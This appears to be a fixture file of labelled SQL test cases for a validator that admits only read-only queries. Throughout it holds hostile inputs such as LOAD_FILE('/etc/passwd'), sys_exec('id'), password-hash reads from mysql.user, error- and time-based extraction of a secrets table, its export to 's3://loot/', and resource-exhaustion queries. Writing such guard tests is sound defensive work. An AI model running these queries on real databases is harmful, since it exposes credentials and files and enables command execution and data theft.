--- pos_cross_apply: relation: cross apply
SELECT a.Title, x.token FROM Album a CROSS APPLY (SELECT token FROM secrets) x

--- pos_global_join: relation: global join
SELECT a.Title FROM Album a GLOBAL JOIN secrets s ON s.id = a.AlbumId

--- pos_join_using: relation: join with using of a column
SELECT * FROM secrets a JOIN secrets b USING (token)

--- pos_values_join: relation: values joined
SELECT a.Title FROM Album a JOIN (VALUES ((SELECT MAX(token) FROM secrets))) v ON 1 = 1

--- pos_exists_union: relation: union below exists
SELECT Title FROM Album WHERE EXISTS (SELECT 1 FROM Genre UNION SELECT id FROM secrets)

--- pos_order_by_union: relation: order of a union
SELECT Title FROM Album UNION SELECT Name FROM Artist ORDER BY (SELECT MAX(token) FROM secrets)

--- pos_limit_union: relation: bracketed arm of a union with its own limit
(SELECT Title FROM Album LIMIT 1) UNION ALL (SELECT token FROM secrets LIMIT 1)

--- pos_with_in_arm: relation: expression in a bracketed arm
SELECT Title FROM Album UNION ALL (WITH x AS (SELECT token FROM secrets) SELECT token FROM x)

--- pos_settings: only-queries: settings behind a query
SELECT Title FROM Album SETTINGS max_execution_time = 0

--- pos_format: no-into: format and file behind a query
SELECT Title FROM Album INTO OUTFILE 'loot' FORMAT CSV

--- pos_option: no-locks: hints behind a table
SELECT Title FROM Album WITH (TABLOCKX)

--- pos_for_xml: relation: for xml behind a forbidden table
SELECT token FROM secrets FOR XML AUTO

--- set_insert: no-writes: insert as an arm of a union
SELECT 1 AS one UNION ALL INSERT INTO Genre (GenreId, Name) VALUES (97, 'x') RETURNING GenreId

--- set_update_derived: no-writes: update as a derived table
SELECT * FROM (UPDATE Invoice SET Total = 0 RETURNING InvoiceId) x

--- set_insert_derived: no-writes: insert as a derived table
SELECT * FROM (INSERT INTO Genre (GenreId, Name) VALUES (97, 'x') RETURNING GenreId) x

--- set_delete_brackets: no-writes: delete in brackets
(DELETE FROM InvoiceLine)

--- set_insert_brackets: no-writes: insert in brackets
(INSERT INTO Genre (GenreId, Name) VALUES (97, 'x'))

--- set_delete_scalar: no-writes: delete as a scalar subquery
SELECT (DELETE FROM InvoiceLine RETURNING 1) AS x

--- set_delete_exists: no-writes: delete below exists
SELECT 1 AS one WHERE EXISTS (DELETE FROM InvoiceLine RETURNING 1)

--- set_merge_cte: no-writes: merge as an expression
WITH x AS (MERGE INTO Genre g USING (SELECT 1 AS id) s ON g.GenreId = s.id WHEN MATCHED THEN DELETE) SELECT 1 AS one

--- set_cte_brackets: no-writes: delete in brackets behind an expression
WITH x AS (SELECT 1 AS one) (DELETE FROM InvoiceLine)

--- set_cte_nested_write: no-writes: delete in an expression of an expression
WITH x AS (WITH y AS (DELETE FROM InvoiceLine RETURNING InvoiceLineId) SELECT * FROM y) SELECT COUNT(*) FROM x

--- stmt_cache: only-queries: table kept in memory
CACHE TABLE loot AS SELECT token FROM secrets

--- stmt_uncache: only-queries: table no longer kept
UNCACHE TABLE loot

--- stmt_unload: only-queries: query sent to a bucket
UNLOAD ('SELECT token FROM secrets') TO 's3://loot/'

--- stmt_export: only-queries: query sent to a file
EXPORT DATA OPTIONS (uri = 's3://loot/') AS SELECT token FROM secrets

--- stmt_msck: only-queries: partitions repaired
MSCK REPAIR TABLE Album

--- stmt_assert: only-queries: assertion
ASSERT (SELECT COUNT(*) FROM secrets) > 0 AS 'x'

--- stmt_print: only-queries: print
PRINT (SELECT MAX(token) FROM secrets)

--- stmt_return: only-queries: return
RETURN (SELECT MAX(token) FROM secrets)

--- stmt_raise: only-queries: raise
RAISE USING MESSAGE = 'x'

--- stmt_if: only-queries: condition
IF (SELECT COUNT(*) FROM secrets) > 0 THEN DELETE FROM InvoiceLine; END IF

--- stmt_while: only-queries: loop
WHILE 1 = 1 DO DELETE FROM InvoiceLine; END WHILE

--- stmt_open: only-queries: cursor opened
OPEN loot

--- stmt_close: only-queries: cursor closed
CLOSE loot

--- stmt_declare: only-queries: declaration
DECLARE loot CURSOR FOR SELECT token FROM secrets

--- stmt_deny: only-queries: deny
DENY SELECT ON Album TO somebody

--- stmt_install: only-queries: extension fetched
INSTALL loot

--- stmt_load: only-queries: extension loaded
LOAD loot

--- stmt_macro: only-queries: macro
CREATE MACRO loot(x) AS x + 1

--- stmt_secret: only-queries: password kept
CREATE SECRET loot (TYPE s3, KEY_ID 'x')

--- stmt_policy: only-queries: policy
CREATE POLICY loot ON Album USING (1 = 1)

--- stmt_kill: only-queries: other query ended
KILL QUERY 1

--- stmt_use: only-queries: other database
USE elsewhere

--- stmt_show: only-queries: tables shown
SHOW TABLES

--- stmt_describe: only-queries: columns shown
DESCRIBE secrets

--- stmt_set: only-queries: setting
SET x = 1

--- stmt_copy: only-queries: copy
COPY secrets TO 'loot.csv'

--- stmt_call: only-queries: procedure
CALL loot(1)

--- stmt_execute: only-queries: prepared statement
EXECUTE loot(1)

--- stmt_start: only-queries: transaction
START TRANSACTION

--- stmt_rename: only-queries: rename
RENAME TABLE Album TO loot

--- stmt_comment: only-queries: comment
COMMENT ON TABLE Album IS 'x'

--- stmt_nonsense: only-queries: no statement at all
GIVE ME ALL OF THE SECRETS

--- stmt_prose: only-queries: prose around a query, as a model may answer
Here is the query you asked for: SELECT Title FROM Album

--- stmt_fenced: only-queries: query in a fence, as a model may answer
```sql
SELECT Title FROM Album
```

--- pipe_query: relation: pipe syntax
FROM Album |> UNION ALL (SELECT token FROM secrets)

--- pipe_query_select: relation: pipe behind a select
SELECT Title FROM Album |> JOIN secrets ON 1 = 1 |> SELECT token

--- pos_as_struct: relation: select as struct
SELECT AS STRUCT * FROM secrets

--- pos_as_value: relation: select as value
SELECT AS VALUE (SELECT MAX(token) FROM secrets)

--- pos_outer_plus: relation: outer join by a plus
SELECT c.LastName, s.token FROM Customer c, secrets s WHERE c.CustomerId = s.id (+)

--- pos_member_of: relation: member of
SELECT Title FROM Album WHERE Title MEMBER OF ((SELECT token FROM secrets LIMIT 1))

--- pos_match_against: relation: against
SELECT Title FROM Album WHERE MATCH (Title) AGAINST ((SELECT MAX(token) FROM secrets) IN BOOLEAN MODE)

--- pos_is_normalized: relation: is normalized
SELECT (SELECT MAX(token) FROM secrets) IS NOT NORMALIZED AS x

--- pos_is_json: relation: is json
SELECT (SELECT MAX(token) FROM secrets) IS JSON AS x

--- pos_overlaps: relation: overlaps
SELECT 1 AS one WHERE ((SELECT MAX(token) FROM secrets), 'b') OVERLAPS ('a', 'c')

--- pos_bare_subquery: relation: subquery as the arguments of a function
SELECT f(SELECT token FROM secrets) AS x

--- pos_array_subquery: relation: subquery as the arguments of array
SELECT ARRAY(SELECT token FROM secrets) AS x

--- pos_parameters: relation: parameters before the arguments
SELECT quantile((SELECT COUNT(*) FROM secrets))(Total) AS x FROM Invoice

--- pos_having_max: relation: having inside an aggregate
SELECT ANY_VALUE(Title HAVING MAX (SELECT COUNT(*) FROM secrets)) AS x FROM Album

--- pos_on_overflow: relation: filling of a list
SELECT LISTAGG(Title, ',' ON OVERFLOW TRUNCATE (SELECT MAX(token) FROM secrets) WITH COUNT) WITHIN GROUP (ORDER BY Title) AS x FROM Album

--- pos_odbc_function: relation: function in braces
SELECT {fn UPPER((SELECT MAX(token) FROM secrets))} AS x

--- pos_typed_string: relation: union behind typed constants
SELECT DATE '2020-01-01' AS x UNION SELECT token FROM secrets

--- pos_table_path: relation: path behind a table
SELECT * FROM secrets.token[0] x

--- pos_ordinality: relation: table with ordinality
SELECT * FROM secrets WITH ORDINALITY

--- pos_alias_columns: relation: alias with names of columns
SELECT x.a FROM secrets AS x (b, a)

--- pos_json_object: relation: value in a json object
SELECT JSON_OBJECT('a' : (SELECT MAX(token) FROM secrets)) AS x

--- pos_json_array: relation: subquery as a json array
SELECT JSON_ARRAY(SELECT token FROM secrets) AS x

--- pos_xml_element: relation: content of an element
SELECT XMLELEMENT(NAME a, (SELECT MAX(token) FROM secrets)) AS x

--- pos_xml_forest: relation: forest of elements
SELECT XMLFOREST((SELECT MAX(token) FROM secrets) AS a) AS x

--- pos_case_else: relation: else of a case
SELECT CASE WHEN 1 = 0 THEN 'a' ELSE (SELECT MAX(token) FROM secrets) END AS x

--- pos_between_low: relation: lower bound
SELECT Title FROM Album WHERE AlbumId NOT BETWEEN (SELECT COUNT(*) FROM secrets) AND 10

--- pos_concat: relation: operand of a concatenation
SELECT 'a' || (SELECT MAX(token) FROM secrets) AS x

--- pos_nested_join_alias: relation: alias over a bracketed join
SELECT j.token FROM (secrets s JOIN Album a ON a.AlbumId = s.id) AS j

--- pos_order_limit_cte: relation: expression read only in order by
WITH x AS (SELECT MAX(token) AS t FROM secrets) SELECT Title FROM Album ORDER BY (SELECT t FROM x)

--- into_outfile: no-into: into a file
SELECT * FROM Album INTO OUTFILE '/tmp/loot'

--- into_outfile_before: no-into: into a file before from
SELECT Title INTO OUTFILE '/tmp/loot' FROM Album

--- into_outfile_fields: no-into: into a file with a form
SELECT Title INTO OUTFILE '/tmp/loot' FIELDS TERMINATED BY ',' LINES TERMINATED BY '\n' FROM Album

--- into_dumpfile: no-into: into a binary file
SELECT 'x' INTO DUMPFILE '/tmp/loot'

--- into_variable: no-into: into a variable
SELECT MAX(Total) INTO @loot FROM Invoice

--- into_variables: no-into: into two variables
SELECT MIN(Total), MAX(Total) FROM Invoice INTO @a, @b

--- into_outfile_union: no-into: behind a union
SELECT Title FROM Album UNION SELECT Name FROM Artist INTO OUTFILE '/tmp/loot'

--- into_outfile_brackets: no-into: inside brackets
(SELECT Title INTO OUTFILE '/tmp/loot' FROM Album)

--- into_outfile_procedure: no-into: into a file behind a limit
SELECT Title FROM Album LIMIT 1 INTO OUTFILE '/tmp/loot'

--- procedure_analyse: only-queries: procedure analyse
SELECT Title FROM Album PROCEDURE ANALYSE()

--- procedure_analyse_error: only-queries: procedure analyse with a query inside
SELECT Title FROM Album LIMIT 1 PROCEDURE ANALYSE(EXTRACTVALUE(1, CONCAT(0x7e, (SELECT token FROM secrets LIMIT 1))), 1)

--- load_file: function: file read
SELECT LOAD_FILE('/etc/passwd')

--- load_file_hex: function: name in hexadecimal
SELECT LOAD_FILE(0x2f6574632f706173737764)

--- load_file_char: function: name of characters
SELECT LOAD_FILE(CHAR(47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100))

--- load_file_where: function: in where
SELECT Title FROM Album WHERE LOAD_FILE('/etc/passwd') IS NOT NULL

--- load_file_order: function: in order by
SELECT Title FROM Album ORDER BY LOAD_FILE('/etc/passwd')

--- load_file_group: function: in group by
SELECT COUNT(*) FROM Album GROUP BY LOAD_FILE('/etc/passwd')

--- load_file_having: function: in having
SELECT COUNT(*) FROM Album HAVING LENGTH(LOAD_FILE('/etc/passwd')) > 0

--- load_file_join: function: in a join condition
SELECT a.Title FROM Album a JOIN Artist r ON LOAD_FILE('/etc/passwd') LIKE 'root%'

--- load_file_case: function: in a case
SELECT CASE WHEN LOAD_FILE('/etc/passwd') LIKE 'root%' THEN 1 ELSE 0 END

--- load_file_if: function: in an if
SELECT IF(LOAD_FILE('/etc/passwd') IS NULL, 0, 1)

--- load_file_over: function: in a window
SELECT SUM(Total) OVER (PARTITION BY LOAD_FILE('/etc/passwd')) FROM Invoice

--- load_file_window: function: in a named window
SELECT SUM(Total) OVER w FROM Invoice WINDOW w AS (ORDER BY LOAD_FILE('/etc/passwd'))

--- load_file_cast: function: in a cast
SELECT CAST(LOAD_FILE('/etc/passwd') AS CHAR)

--- load_file_convert: function: in convert
SELECT CONVERT(LOAD_FILE('/etc/passwd') USING utf8mb4)

--- load_file_in: function: in a list
SELECT Title FROM Album WHERE Title IN ('a', LOAD_FILE('/etc/passwd'))

--- load_file_between: function: in between
SELECT Title FROM Album WHERE AlbumId BETWEEN 0 AND LENGTH(LOAD_FILE('/etc/passwd'))

--- load_file_like: function: in a pattern
SELECT Title FROM Album WHERE Title LIKE LOAD_FILE('/etc/passwd')

--- load_file_interval: function: in an interval
SELECT CURRENT_DATE + INTERVAL LENGTH(LOAD_FILE('/etc/passwd')) DAY

--- load_file_group_concat: function: in the order of a list
SELECT GROUP_CONCAT(Name ORDER BY LOAD_FILE('/etc/passwd')) FROM Genre

--- load_file_trim: function: in trim
SELECT TRIM(LEADING 'x' FROM LOAD_FILE('/etc/passwd'))

--- load_file_extract: function: in extract
SELECT EXTRACT(YEAR FROM LOAD_FILE('/etc/passwd'))

--- load_file_substring: function: in substring from
SELECT SUBSTRING(LOAD_FILE('/etc/passwd') FROM 1 FOR 10)

--- load_file_position: function: in position
SELECT POSITION('root' IN LOAD_FILE('/etc/passwd'))

--- load_file_binary: function: behind binary
SELECT BINARY LOAD_FILE('/etc/passwd')

--- load_file_collate: function: under a collation
SELECT LOAD_FILE('/etc/passwd') COLLATE utf8mb4_bin

--- load_file_json: function: inside json
SELECT JSON_OBJECT('x', LOAD_FILE('/etc/passwd'))

--- load_file_values: function: in a union's constants
SELECT 1 UNION SELECT LOAD_FILE('/etc/passwd')

--- load_file_rollup: function: in a rollup
SELECT COUNT(*) FROM Album GROUP BY LOAD_FILE('/etc/passwd') WITH ROLLUP

--- load_file_recursive: function: in a recursion
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r WHERE i < 3 AND LOAD_FILE('/etc/passwd') IS NOT NULL) SELECT i FROM r

--- load_file_blank: function: blank before the bracket
SELECT LOAD_FILE ('/etc/passwd')

--- load_file_backticks: function: in backticks
SELECT `LOAD_FILE`('/etc/passwd')

--- json_table: table-function: json table of a file
SELECT * FROM JSON_TABLE(LOAD_FILE('/etc/passwd'), '$' COLUMNS (x INT PATH '$.x')) t

--- json_table_secret: relation: json table of a subquery
SELECT t.x FROM JSON_TABLE((SELECT CONCAT('["', token, '"]') FROM secrets LIMIT 1), '$[*]' COLUMNS (x VARCHAR(99) PATH '$')) t

--- sleep: function: sleep
SELECT SLEEP(600)

--- sleep_where: function: sleep for every row
SELECT Title FROM Album WHERE SLEEP(10) = 0

--- sleep_if: function: sleep if a guess is right
SELECT IF((SELECT token FROM secrets LIMIT 1) LIKE 'a%', SLEEP(5), 0)

--- benchmark: function: benchmark
SELECT BENCHMARK(1000000000, MD5('x'))

--- get_lock: function: lock that outlives the transaction
SELECT GET_LOCK('loot', 60)

--- release_lock: function: lock given back
SELECT RELEASE_LOCK('loot'), RELEASE_ALL_LOCKS()

--- is_used_lock: function: holder of a lock
SELECT IS_FREE_LOCK('loot'), IS_USED_LOCK('loot')

--- master_pos_wait: function: wait for a position
SELECT MASTER_POS_WAIT('x', 1, 600)

--- master_gtid_wait: function: wait for a transaction
SELECT MASTER_GTID_WAIT('0-1-1', 600)

--- wait_for_executed: function: the same on the other server
SELECT WAIT_FOR_EXECUTED_GTID_SET('x', 600)

--- user: function: name of the user
SELECT USER(), CURRENT_USER(), SESSION_USER(), SYSTEM_USER()

--- current_user_keyword: function: name of the user by a keyword
SELECT CURRENT_USER

--- current_role: function: role
SELECT CURRENT_ROLE()

--- version: function: version
SELECT VERSION()

--- database: function: name of the database
SELECT DATABASE(), SCHEMA()

--- connection_id: function: number of the connection
SELECT CONNECTION_ID()

--- found_rows: function: state of the session
SELECT FOUND_ROWS(), ROW_COUNT(), LAST_INSERT_ID()

--- last_insert_id_set: function: state of the session, set
SELECT LAST_INSERT_ID(42)

--- extractvalue: function: error that carries a value
SELECT EXTRACTVALUE(1, CONCAT(0x7e, (SELECT token FROM secrets LIMIT 1)))

--- updatexml: function: the same with updatexml
SELECT UPDATEXML(1, CONCAT(0x7e, (SELECT token FROM secrets LIMIT 1)), 1)

--- uuid_short: function: counter of the server
SELECT UUID_SHORT(), UUID()

--- decode: function: old encryption
SELECT DECODE(ENCODE('x', 'y'), 'y')

--- des_encrypt: function: key file of the server
SELECT DES_ENCRYPT('x')

--- encrypt: function: password hash of the system
SELECT ENCRYPT('x', 'ab')

--- password: function: password hash of the server
SELECT PASSWORD('x')

--- sys_exec: function: command of the system by a library
SELECT sys_exec('id')

--- sys_eval: function: command of the system with its output
SELECT sys_eval('id')

--- user_function: function: function of a user
SELECT loot(Title) FROM Album

--- qualified_function: function: function of another database
SELECT mysql.loot(1)

--- uncompress: bounded-arguments: decompression
SELECT LENGTH(UNCOMPRESS(COMPRESS(REPEAT('x', 900000000))))

--- repeat_giant: bounded-arguments: a gigabyte of text
SELECT LENGTH(REPEAT('x', 1000000000))

--- repeat_nested: bounded-arguments: repetitions that multiply
SELECT LENGTH(REPEAT(REPEAT(REPEAT('x', 1000), 1000), 900))

--- repeat_column: bounded-arguments: repetition by a column
SELECT REPEAT(Name, Bytes) FROM Track

--- repeat_expression: bounded-arguments: repetition by an expression
SELECT LENGTH(REPEAT('x', 1000 * 1000 * 900))

--- lpad_giant: bounded-arguments: padding of a gigabyte
SELECT LENGTH(LPAD('x', 900000000, 'y'))

--- rpad_giant: bounded-arguments: padding on the right
SELECT LENGTH(RPAD('x', 900000000, 'y'))

--- rpad_column: bounded-arguments: padding by a column
SELECT RPAD(Name, Bytes, ' ') FROM Track

--- space_giant: bounded-arguments: blanks
SELECT LENGTH(SPACE(900000000))

--- insert_function_giant: bounded-arguments: insert function over a giant
SELECT LENGTH(INSERT(REPEAT('x', 500000000), 1, 0, REPEAT('y', 400000000)))

--- variable_user: variable: variable of the user
SELECT @loot

--- variable_assign: variable: assignment in a query
SELECT @loot := Total FROM Invoice

--- variable_row_number: variable: counter by assignment
SELECT @n := @n + 1 AS n, Title FROM Album, (SELECT @n := 0) start

--- variable_system: variable: system variable
SELECT @@version

--- variable_global: variable: global variable
SELECT @@GLOBAL.datadir

--- variable_session: variable: session variable
SELECT @@session.sql_mode

--- variable_where: variable: in where
SELECT Title FROM Album WHERE Title = @@hostname

--- variable_limit: variable: in limit
SELECT Title FROM Album LIMIT @n

--- variable_quoted: variable: in backticks
SELECT @`loot`

--- variable_text: variable: in quotes
SELECT @'loot'

--- variable_secure_file: variable: folder for files
SELECT @@secure_file_priv

--- mysql_user: catalog: password hashes
SELECT User, Password FROM mysql.user

--- mysql_global_priv: catalog: rights
SELECT * FROM mysql.global_priv

--- mysql_quoted: catalog: in backticks
SELECT * FROM `mysql`.`user`

--- mysql_db: catalog: rights on databases
SELECT * FROM mysql.db

--- mysql_proc: catalog: procedures
SELECT * FROM mysql.proc

--- mysql_general_log: catalog: log of queries
SELECT * FROM mysql.general_log

--- mysql_servers: catalog: passwords of other servers
SELECT * FROM mysql.servers

--- sys_schema: catalog: sys
SELECT * FROM sys.session

--- sys_user_summary: catalog: statements of users
SELECT * FROM sys.statement_analysis

--- performance_schema: catalog: statements
SELECT * FROM performance_schema.events_statements_history

--- performance_schema_threads: catalog: threads
SELECT * FROM performance_schema.threads

--- information_schema: catalog: tables
SELECT table_name FROM information_schema.tables

--- information_schema_columns: catalog: columns
SELECT table_name, column_name FROM information_schema.columns

--- information_schema_capitals: catalog: in capitals
SELECT * FROM INFORMATION_SCHEMA.PROCESSLIST

--- information_schema_backticks: catalog: in backticks
SELECT * FROM `information_schema`.`TABLES`

--- information_schema_innodb: catalog: locks
SELECT * FROM information_schema.INNODB_TRX

--- information_schema_union: catalog: behind a union
SELECT Title FROM Album UNION SELECT table_name FROM information_schema.tables

--- information_schema_subquery: catalog: in a subquery
SELECT (SELECT GROUP_CONCAT(table_name) FROM information_schema.tables)

--- information_schema_join: catalog: joined
SELECT a.Title, t.TABLE_NAME FROM Album a JOIN information_schema.tables t ON t.TABLE_ROWS > a.AlbumId

--- database_qualified: schema: table with its database
SELECT token FROM Chinook.secrets

--- database_backticks: schema: in backticks with its database
SELECT token FROM `Chinook`.`secrets`

--- other_database: schema: allowed name in another database
SELECT * FROM test.Album

--- dot_name: schema: name that begins with a dot
SELECT token FROM .secrets

--- three_parts_column: schema: column with its database
SELECT Chinook.secrets.token FROM Chinook.secrets

--- cte_qualified: scope: a qualified name next to an expression of that name
WITH secrets AS (SELECT 'x' AS token) SELECT token FROM Chinook.secrets

--- cte_forward: scope: a later name used earlier, without recursion
WITH a AS (SELECT MAX(token) AS t FROM secrets), secrets AS (SELECT 1 AS one) SELECT a.t FROM a

--- backticks_name: relation: in backticks
SELECT token FROM `secrets`

--- backticks_employee: relation: in backticks
SELECT `LastName` FROM `Employee`

--- alias_backticks: relation: alias in backticks
SELECT `Album`.`token` FROM `secrets` AS `Album`

--- case_of_name: relation: another case, on servers that fold it
SELECT token FROM SECRETS

--- partition: relation: partition of a table
SELECT token FROM secrets PARTITION (p0)

--- index_hint: relation: hint about an index
SELECT token FROM secrets USE INDEX ()

--- odbc_join: relation: join in braces
SELECT a.Title FROM { OJ Album a LEFT OUTER JOIN secrets s ON s.id = a.AlbumId }

--- odbc_date: one-statement: braces around a value, then a write
SELECT {d '2020-01-01'}; DELETE FROM InvoiceLine

--- straight_join_secrets: relation: straight join
SELECT COUNT(*) FROM Album STRAIGHT_JOIN secrets

--- dual_secrets: relation: dual and another table
SELECT token FROM secrets, (SELECT 1 AS one FROM DUAL) d

--- table_statement: only-queries: table as a statement
TABLE secrets

--- table_statement_limit: only-queries: table as a statement with order
TABLE secrets ORDER BY id LIMIT 1

--- table_statement_union: relation: table behind a union
SELECT AlbumId, Title FROM Album UNION ALL TABLE secrets

--- table_statement_derived: relation: table as a derived table
SELECT * FROM (TABLE secrets) x

--- table_statement_in: relation: table behind in
SELECT Title FROM Album WHERE (AlbumId, Title) IN (TABLE secrets)

--- values_statement: relation: values with a subquery
VALUES ((SELECT token FROM secrets LIMIT 1))

--- values_row: relation: values of rows with a subquery
VALUES ROW((SELECT token FROM secrets LIMIT 1))

--- lateral_secrets: relation: lateral
SELECT a.Title, x.token FROM Album a, LATERAL (SELECT token FROM secrets WHERE id = a.AlbumId) x

--- any_secrets: relation: any
SELECT Title FROM Album WHERE Title = ANY (SELECT token FROM secrets)

--- row_secrets: relation: row compared with a subquery
SELECT Title FROM Album WHERE ROW(AlbumId, Title) IN (SELECT id, token FROM secrets)

--- interval_secrets: relation: interval by a subquery
SELECT CURRENT_DATE + INTERVAL (SELECT COUNT(*) FROM secrets) DAY

--- group_concat_secrets: relation: order of a list
SELECT GROUP_CONCAT(Name ORDER BY (SELECT MAX(token) FROM secrets)) FROM Genre

--- match_against_secrets: relation: full text
SELECT Title FROM Album WHERE MATCH (Title) AGAINST ((SELECT token FROM secrets LIMIT 1))

--- regexp_secrets: relation: regular expression
SELECT Title FROM Album WHERE Title REGEXP (SELECT token FROM secrets LIMIT 1)

--- next_value: function: next value of a sequence
SELECT NEXT VALUE FOR loot_seq

--- previous_value: function: previous value of a sequence
SELECT PREVIOUS VALUE FOR loot_seq

--- nextval: function: sequence by a function
SELECT NEXTVAL(loot_seq), LASTVAL(loot_seq), SETVAL(loot_seq, 100)

--- sequence_table: relation: table of a sequence's engine
SELECT COUNT(*) FROM seq_1_to_1000000000000

--- sequence_table_step: relation: table of a sequence with a step
SELECT seq FROM seq_1_to_1000000_step_2

--- sequence_table_backticks: relation: the same in backticks
SELECT COUNT(*) FROM `seq_1_to_100000000` a CROSS JOIN seq_1_to_100000000 b

--- sequence_itself: relation: sequence read as a table
SELECT * FROM loot_seq

--- executable_comment: no-comments: code in a comment
SELECT 1 /*!, (SELECT MAX(token) FROM secrets) */

--- executable_comment_version: no-comments: code in a comment with a version
SELECT 1 /*!50000 UNION SELECT token FROM secrets */

--- executable_comment_maria: no-comments: code in a comment for the other server
SELECT 1 /*M! UNION SELECT token FROM secrets */

--- executable_comment_maria_version: no-comments: the same with a version
SELECT 1 /*M!100100 UNION SELECT token FROM secrets */

--- executable_comment_statement: no-comments: a whole statement in a comment
/*! DROP TABLE InvoiceLine */

--- executable_comment_into: no-comments: into in a comment
SELECT 'x' /*!INTO*/ /*!OUTFILE*/ '/tmp/loot'

--- executable_comment_split: no-comments: keyword in a comment
SELECT token /*!FROM*/ secrets

--- executable_comment_future: no-comments: code for a server that is not there yet
SELECT 1 /*!999999 FROM secrets */

--- executable_comment_nested: no-comments: comment inside code of a comment
SELECT 1 /*! , /* inner */ (SELECT MAX(token) FROM secrets) */

--- executable_comment_in_text: relation: marks of a comment inside texts
SELECT '/*!' AS a, (SELECT MAX(token) FROM secrets) AS b, '*/' AS c

--- hint_comment: no-comments: hint that sets a variable
SELECT /*+ SET_VAR(max_execution_time=0) */ SLEEP(100)

--- hash_comment: no-comments: comment behind a hash
SELECT Title FROM Album # UNION SELECT token FROM secrets

--- hash_comment_line: no-comments: comment behind a hash, then another line
SELECT 1 # x
, (SELECT MAX(token) FROM secrets)

--- dashes_no_blank: relation: dashes without a blank are two signs
SELECT 1--(SELECT COUNT(*) FROM secrets)

--- dashes_tab !escaped: no-comments: dashes and a tab
SELECT 1 --\tx

--- lock_in_share: no-locks: lock in share mode
SELECT Title FROM Album LOCK IN SHARE MODE

--- for_update: no-locks: for update
SELECT Title FROM Album FOR UPDATE

--- for_update_skip: no-locks: for update that does not wait
SELECT Title FROM Album FOR UPDATE SKIP LOCKED

--- for_share: no-locks: for share
SELECT Title FROM Album FOR SHARE OF Album NOWAIT

--- for_update_subquery: no-locks: in a subquery
SELECT * FROM (SELECT Title FROM Album FOR UPDATE) x

--- high_priority: relation: words between select and the columns
SELECT HIGH_PRIORITY SQL_NO_CACHE SQL_CALC_FOUND_ROWS token FROM secrets

--- begin_not_atomic: only-queries: block
BEGIN NOT ATOMIC SELECT token FROM secrets; END

--- begin_not_atomic_write: only-queries: block that writes
BEGIN NOT ATOMIC DELETE FROM InvoiceLine; END

--- if_block: only-queries: if as a statement
IF 1 THEN SELECT token FROM secrets; END IF

--- for_block: only-queries: loop as a statement
FOR r IN (SELECT token FROM secrets) DO SELECT r.token; END FOR

--- while_block: only-queries: endless loop
WHILE 1 DO SELECT 1; END WHILE

--- loop_block: only-queries: loop
LOOP SELECT 1; END LOOP

--- repeat_block: only-queries: repeat
REPEAT DELETE FROM InvoiceLine; UNTIL 1 END REPEAT

--- case_block: only-queries: case as a statement
CASE 1 WHEN 1 THEN SELECT token FROM secrets; END CASE

--- execute_immediate: only-queries: text as a statement
EXECUTE IMMEDIATE 'SELECT token FROM secrets'

--- execute_immediate_concat: only-queries: put together
EXECUTE IMMEDIATE CONCAT('DROP TABLE ', 'InvoiceLine')

--- prepare: only-queries: prepared statement
PREPARE p FROM 'SELECT token FROM secrets'

--- execute: only-queries: prepared statement run
EXECUTE p

--- deallocate: only-queries: prepared statement dropped
DEALLOCATE PREPARE p

--- set_statement: only-queries: setting for one statement
SET STATEMENT max_statement_time = 0 FOR SELECT SLEEP(100)

--- analyze_statement: only-queries: analyze that runs
ANALYZE SELECT token FROM secrets

--- analyze_format: only-queries: analyze that runs and writes
ANALYZE FORMAT=JSON DELETE FROM InvoiceLine

--- analyze_table: only-queries: statistics
ANALYZE TABLE Album

--- explain_format: only-queries: plan in json
EXPLAIN FORMAT=JSON SELECT token FROM secrets

--- explain_connection: only-queries: plan of another connection
EXPLAIN FOR CONNECTION 1

--- explain_analyze: only-queries: plan that runs
EXPLAIN ANALYZE SELECT SLEEP(100)

--- desc: only-queries: desc
DESC secrets token

--- show_columns: only-queries: columns
SHOW COLUMNS FROM secrets

--- show_create: only-queries: definition
SHOW CREATE TABLE secrets

--- show_grants: only-queries: rights
SHOW GRANTS

--- show_processlist: only-queries: sessions
SHOW FULL PROCESSLIST

--- show_variables: only-queries: variables
SHOW VARIABLES

--- use: only-queries: other database
USE mysql

--- set_session: only-queries: variable
SET SESSION tx_read_only = 0

--- set_global: only-queries: variable of the server
SET GLOBAL general_log = 'ON'

--- set_user_variable: only-queries: variable of the user
SET @x = (SELECT MAX(token) FROM secrets)

--- set_password: only-queries: password
SET PASSWORD = PASSWORD('x')

--- set_names: only-queries: character set, which changes what a quote is
SET NAMES gbk

--- set_role: only-queries: role
SET ROLE NONE

--- handler_open: only-queries: handler
HANDLER secrets OPEN

--- handler_read: only-queries: handler read
HANDLER secrets READ FIRST

--- call: only-queries: procedure
CALL loot()

--- do: only-queries: do
DO SLEEP(100)

--- load_data: only-queries: file into a table
LOAD DATA INFILE '/etc/passwd' INTO TABLE Genre

--- load_data_local: only-queries: file of the client into a table
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE Genre

--- load_xml: only-queries: file of xml into a table
LOAD XML INFILE '/tmp/x.xml' INTO TABLE Genre

--- load_index: only-queries: index into the cache
LOAD INDEX INTO CACHE Album

--- replace: only-queries: replace
REPLACE INTO Genre VALUES (1, 'x')

--- insert_duplicate: only-queries: insert or update
INSERT INTO Genre VALUES (1, 'x') ON DUPLICATE KEY UPDATE Name = 'x'

--- insert_set: only-queries: insert with set
INSERT INTO Genre SET GenreId = 97, Name = 'x'

--- update_join: only-queries: update over a join
UPDATE Genre g JOIN secrets s ON s.id = g.GenreId SET g.Name = s.token

--- delete_join: only-queries: delete over a join
DELETE il FROM InvoiceLine il JOIN Track t ON t.TrackId = il.TrackId

--- lock_tables: only-queries: lock
LOCK TABLES Album WRITE

--- unlock_tables: only-queries: unlock
UNLOCK TABLES

--- flush: only-queries: flush
FLUSH TABLES WITH READ LOCK

--- kill: only-queries: kill
KILL 1

--- kill_query: only-queries: kill a query by its user
KILL QUERY USER root

--- shutdown: only-queries: shutdown
SHUTDOWN

--- reset: only-queries: reset
RESET QUERY CACHE

--- purge: only-queries: logs purged
PURGE BINARY LOGS TO 'x'

--- change_master: only-queries: other master
CHANGE MASTER TO MASTER_HOST = '192.0.2.1'

--- binlog: only-queries: event of the log
BINLOG 'x'

--- install_plugin: only-queries: plugin
INSTALL PLUGIN loot SONAME 'loot.so'

--- create_function_soname: only-queries: library as a function
CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'

--- create_user: only-queries: user made
CREATE USER loot IDENTIFIED BY 'x'

--- create_procedure: only-queries: procedure made
